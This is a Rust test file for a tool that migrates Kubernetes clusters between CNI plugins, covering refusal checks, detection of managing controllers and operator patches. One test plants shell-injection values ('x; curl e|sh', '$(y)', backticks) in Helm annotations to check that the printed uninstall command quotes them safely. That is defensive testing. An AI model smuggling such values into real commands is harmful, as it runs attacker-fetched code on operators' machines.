use super::*;
use crate::finish::managed_objects::installation_patch;

fn definition(name: &str) -> (Kind, Value) {
    object(Kind::CUSTOM_RESOURCE_DEFINITION, name, json!({}))
}

/// The fence is refused, and says why; none if it is not.
fn refusal_of_fence(world: &World) -> Option<String> {
    let line = world.line(LineName::Fence);
    (line.state == LineState::Refused).then(|| line.evidence.join("; "))
}

/// The snapshot is of the time before the first deletion.
#[test]
fn agents_that_are_gone_are_known_by_the_plan() {
    let mut world = World::fenced();
    world.inventory.objects.retain(|target, _| target.part != Part::Agent && target.part != Part::PodNetwork);
    world.record.as_mut().expect("a record").is_one_way = true;
    assert_eq!(world.next(), (LineName::Removal, LineState::Ready));
}

#[test]
fn agents_that_are_not_recognised_are_not_passed_over() {
    let mut world = World::approved();
    world.inventory.objects.retain(|target, _| target.part != Part::Agent);
    world.plan = Some(FinishPlan::new(&world.case.scene(), &world.inventory));
    world.case = Case::new(Cni::Calico, Cni::Antrea, vec![]);
    assert_eq!(refusal_of_fence(&world), None, "no agent is there");
    world.case.snapshot.readings.remove(&Kind::DAEMON_SET);
    assert!(refusal_of_fence(&world).is_some_and(|why| why.contains("daemonsets.apps: they are not known")));
    let alike = agent("networking", "node", "calico-node", 3);
    world.case = Case::new(Cni::Calico, Cni::Antrea, vec![alike]);
    assert!(refusal_of_fence(&world).is_some_and(|why| why.contains("DaemonSet/networking/node looks like")));
    // Settings that name the agents name all of them.
    world.case = world.case.config("agents: {old: [{namespace: kube-system, name: calico-node}]}");
    assert_eq!(refusal_of_fence(&world), None);
}

#[test]
fn calico_with_definitions_of_its_own_group_is_refused() {
    for (from, to, name, is_refused) in [
        (Cni::Calico, Cni::Antrea, "tiers.projectcalico.org", true),
        (Cni::Canal, Cni::Antrea, "ippools.projectcalico.org", true),
        (Cni::Calico, Cni::Antrea, "tiers.crd.projectcalico.org", false),
        (Cni::Cilium, Cni::Calico, "tiers.projectcalico.org", false),
    ] {
        let world = World { case: Case::new(from, to, vec![definition(name)]), ..World::approved() };
        let why = refusal_of_fence(&world).unwrap_or_default();
        assert_eq!(why.contains("in which order its controllers let them go"), is_refused, "{name}: {why}");
    }
}

#[test]
fn what_cilium_serves_is_not_fenced_off() {
    let served = |kind: Kind, name: &str, spec: Value| {
        object(kind, name, json!({"metadata": {"namespace": "x"}, "spec": spec}))
    };
    for (objects, unread, says) in [
        (
            vec![served(Kind::INGRESS, "web", json!({"ingressClassName": "cilium"}))],
            None,
            "such as Ingress/x/web",
        ),
        (
            vec![served(Kind::GATEWAY, "web", json!({"gatewayClassName": "cilium"}))],
            None,
            "such as Gateway/x/web",
        ),
        // A class of another name is Cilium's, too.
        (
            vec![served(Kind::SERVICE, "cilium-gateway-web", json!({}))],
            None,
            "such as Service/x/cilium-gateway-web",
        ),
        (
            vec![served(Kind::SERVICE, "cilium-ingress-web", json!({}))],
            None,
            "such as Service/x/cilium-ingress-web",
        ),
        (vec![served(Kind::SERVICE, "web", json!({}))], None, ""),
        (vec![], Some(Kind::INGRESS), "ingresses.networking.k8s.io: they are not known"),
        (vec![], Some(Kind::GATEWAY), "gateways.gateway.networking.k8s.io: they are not known"),
        (vec![], Some(Kind::SERVICE), "services: they are not known"),
        (
            vec![],
            Some(Kind::CUSTOM_RESOURCE_DEFINITION),
            "customresourcedefinitions.apiextensions.k8s.io: they are not known",
        ),
    ] {
        let mut world = World { case: Case::new(Cni::Cilium, Cni::Antrea, objects), ..World::approved() };
        if let Some(kind) = unread {
            world.case.snapshot.readings.remove(&kind);
        }
        match refusal_of_fence(&world) {
            None => assert_eq!(says, ""),
            Some(why) => assert!(!says.is_empty() && why.contains(says), "{why}"),
        }
    }
}

/// The operator lives for as long as the soak, and taints each node whose agent is away.
#[test]
fn an_operator_that_would_taint_every_node_is_refused_first() {
    let known = Cni::Cilium.facts().footprint.targets(&["kube-system".to_owned()].into());
    let operator =
        known.into_iter().find(|target| target.to_string() == "Deployment/kube-system/cilium-operator");
    let operator = operator.expect("it is in the footprint");
    for (value, is_there, is_refused) in
        [("true", true, true), ("false", true, false), ("true", false, false)]
    {
        let data =
            json!({"metadata": {"namespace": "kube-system"}, "data": {"set-cilium-node-taints": value}});
        let config = object(Kind::CONFIG_MAP, "cilium-config", data);
        let mut world =
            World { case: Case::new(Cni::Cilium, Cni::Antrea, vec![config]), ..World::approved() };
        if is_there {
            world.inventory.objects.insert(operator.clone(), json!({"metadata": {"uid": "u"}}));
        }
        assert_eq!(refusal_of_fence(&world).is_some(), is_refused, "{value} {is_there}");
    }
}

/// The operator renders three DaemonSets, each of which is an agent.
#[test]
fn the_patch_of_the_operator_fences_all_of_its_agents() {
    let patch = |is_closed| -> Value {
        let command = installation_patch(is_closed);
        let patch = command.strip_prefix("kubectl patch installation default --type merge -p '");
        serde_json::from_str(patch.and_then(|rest| rest.strip_suffix('\'')).expect(&command)).expect("JSON")
    };
    for key in ["calicoNodeDaemonSet", "calicoNodeWindowsDaemonSet", "csiNodeDriverDaemonSet"] {
        let pointer = format!("/spec/{key}/spec/template/spec/nodeSelector");
        assert_eq!(patch(true).pointer(&pointer), Some(&json!({FENCE: CLOSED})));
        assert_eq!(patch(false).pointer(&pointer), Some(&json!({FENCE: null})));
    }
}

/// Others write labels and annotations, and a person pastes the command.
#[test]
fn text_of_others_is_one_word_of_a_command() {
    let mut world = World::approved();
    for (_, object) in world.inventory.objects.iter_mut().filter(|(target, _)| target.part == Part::Agent) {
        object["metadata"]["labels"] = json!({"app.kubernetes.io/managed-by": "Helm"});
        object["metadata"]["annotations"] =
            json!({"meta.helm.sh/release-name": "x; curl e|sh", "meta.helm.sh/release-namespace": "$(y)"});
        object["metadata"]["ownerReferences"] = json!([{"apiVersion": "x/v1", "kind": "X", "name": "`z`"}]);
    }
    let help = world.line(LineName::Removal).help;
    assert!(help.contains("helm uninstall 'x; curl e|sh' --namespace '$(y)'"), "{help}");
    assert!(help.contains("of 'X/`z`'"), "{help}");
}

/// They belong to other products, or to older releases.
#[test]
fn definitions_in_no_table_are_named_and_left() {
    let names = |from, to, all: &[&str]| {
        let mut world = World::fenced();
        world.case = Case::new(from, to, all.iter().map(|name| definition(name)).collect());
        world.inventory.objects.clear();
        world.record.as_mut().expect("a record").is_one_way = true;
        let line = world.line(LineName::Absence);
        assert_eq!(line.state, LineState::Done, "{line:?}");
        line.evidence.iter().find_map(|what| Some(what.split_once("installation stay: ")?.1.to_owned()))
    };
    let all = ["tracingpolicies.cilium.io", "ciliumnodes.cilium.io", "x.notcilium.io"];
    assert_eq!(names(Cni::Cilium, Cni::Flannel, &all).as_deref(), Some("tracingpolicies.cilium.io"));
    let all = ["clustersets.multicluster.crd.antrea.io", "tiers.crd.antrea.io"];
    assert_eq!(
        names(Cni::Antrea, Cni::Flannel, &all).as_deref(),
        Some("clustersets.multicluster.crd.antrea.io")
    );
    assert_eq!(names(Cni::Flannel, Cni::Cilium, &all), None);
}

/// Each row: what is on the agent, who it is, and whether that forbids the fence and the removal.
#[test]
fn managers_that_bring_an_object_back_are_found_first() {
    for (metadata, manager, is_fence_refused, is_removal_refused) in [
        (json!({}), None, false, false),
        (
            json!({"labels": {"app.kubernetes.io/managed-by": "Helm"}, "annotations": {"meta.helm.sh/release-name": "calico"}}),
            Some(Manager::Helm),
            false,
            true,
        ),
        // A chart that was rendered by helm template has no release.
        (json!({"labels": {"app.kubernetes.io/managed-by": "Helm"}}), None, false, false),
        (
            json!({"ownerReferences": [{"apiVersion": "operator.tigera.io/v1", "kind": "Installation", "name": "default"}]}),
            Some(Manager::TigeraOperator),
            true,
            false,
        ),
        (
            json!({"ownerReferences": [{"apiVersion": "operator.x/v1", "kind": "X", "name": "x"}]}),
            Some(Manager::Operator),
            true,
            true,
        ),
        (
            json!({"labels": {"addonmanager.kubernetes.io/mode": "Reconcile"}}),
            Some(Manager::AddonManager),
            true,
            true,
        ),
        (
            json!({"labels": {"addon.kops.k8s.io/name": "networking.projectcalico.org"}}),
            Some(Manager::Kops),
            true,
            true,
        ),
        (json!({"annotations": {"argocd.argoproj.io/tracking-id": "x"}}), Some(Manager::ArgoCd), true, true),
        // Charts set this label themselves.
        (json!({"labels": {"app.kubernetes.io/instance": "x"}}), None, false, false),
        (json!({"labels": {"kustomize.toolkit.fluxcd.io/name": "x"}}), Some(Manager::Flux), true, true),
        (json!({"annotations": {"objectset.rio.cattle.io/id": "x"}}), Some(Manager::Rancher), true, true),
        (json!({"managedFields": [{"manager": "eks"}]}), Some(Manager::Eks), true, true),
        (
            json!({"annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}}),
            None,
            false,
            false,
        ),
    ] {
        let mut world = World::approved();
        for (target, object) in &mut world.inventory.objects {
            if target.part == Part::Agent {
                object["metadata"]
                    .as_object_mut()
                    .expect("metadata")
                    .extend(metadata.as_object().expect("an object").clone());
            }
        }
        world.backup = Some(backup::backup(&world.inventory, None));
        let refused = |name: LineName| world.line(name).state == LineState::Refused;
        assert_eq!(
            (refused(LineName::Fence), refused(LineName::Removal)),
            (is_fence_refused, is_removal_refused),
            "{metadata}"
        );
        let Some(manager) = manager else { continue };
        assert!(!world.line(LineName::Removal).help.is_empty(), "{metadata}");
        world.case.config.finish.managers_off = vec![manager];
        let refused =
            [LineName::Fence, LineName::Removal].map(|name| world.line(name).state == LineState::Refused);
        assert_eq!(refused, [false, false], "{metadata}: it is off");
    }
}

#[test]
fn installations_of_others_are_refused() {
    let definition = |name: &str| {
        (Kind::CUSTOM_RESOURCE_DEFINITION, vec![object(Kind::CUSTOM_RESOURCE_DEFINITION, name, json!({}))])
    };
    let set = |namespace: &str, name: &str, container: &str, selector: Value| {
        let spec =
            json!({"template": {"spec": {"containers": [{"name": container}], "nodeSelector": selector}}});
        (
            Kind::DAEMON_SET,
            vec![object(Kind::DAEMON_SET, name, json!({"metadata": {"namespace": namespace}, "spec": spec}))],
        )
    };
    for ((_, objects), says) in [
        (definition("x.usage.tigera.io"), "is of a product"),
        (definition("datastoremigrations.migration.projectcalico.org"), "migration of Calico's data"),
        (
            set("kube-system", "calico-node-old", "calico-node", json!({})),
            "no published installation calls it so",
        ),
        (set("kube-system", "aws-node", "aws-node", json!({})), "beside another network"),
        (
            set(
                "kube-system",
                "kube-proxy",
                "kube-proxy",
                json!({"operator.tigera.io/disable-kube-proxy": "true"}),
            ),
            "is kept off every node",
        ),
    ] {
        let mut world = World::approved();
        world.case = Case::new(Cni::Calico, Cni::Antrea, objects);
        // The fence would take away what the removal must not.
        for name in [LineName::Fence, LineName::Removal] {
            let line = world.line(name);
            assert_eq!(line.state, LineState::Refused, "{says}");
            assert!(line.evidence.iter().any(|what| what.contains(says)), "{line:?}");
        }
    }
}
